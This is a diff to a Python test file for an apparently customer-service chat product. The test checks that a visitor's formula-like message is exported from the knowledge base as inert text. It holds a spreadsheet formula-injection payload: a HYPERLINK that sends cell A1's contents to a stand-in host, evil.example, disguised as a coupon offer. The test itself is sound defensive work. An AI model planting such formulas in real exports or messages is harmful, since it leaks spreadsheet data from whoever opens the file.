@@ -19,6 +19,7 @@ import pytest
 
 from meiqia import spreadsheets
 from tests.api.test_conversations import start
+from tests.helpers import new_client_id
 
 EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"点击领取优惠券")'
 EVIL_ANSWER = "-请联系客服 +86 400-000-0000"
@@ -29,7 +30,7 @@ ROOT = pathlib.Path(__file__).resolve().parents[2] / "meiqia"
 def test_a_visitors_formula_question_exported_from_the_kb_is_text(api, fmt, tmp_path):
     client, token, cid, _ = start(api.app, api.team["id"], name="访客")
     asked = client.post(f"/api/v1/widget/conversations/{cid}/messages",
-                        headers={"X-Visitor-Token": token}, json={"body": EVIL})
+                        headers={"X-Visitor-Token": token}, json={"body": EVIL, "client_msg_id": new_client_id()})
     assert asked.status_code == 201, asked.get_json()
     groups = api.get("/api/v1/bot/unrecognised").get_json()["groups"]
     group = next(g for g in groups if EVIL in g["questions"])
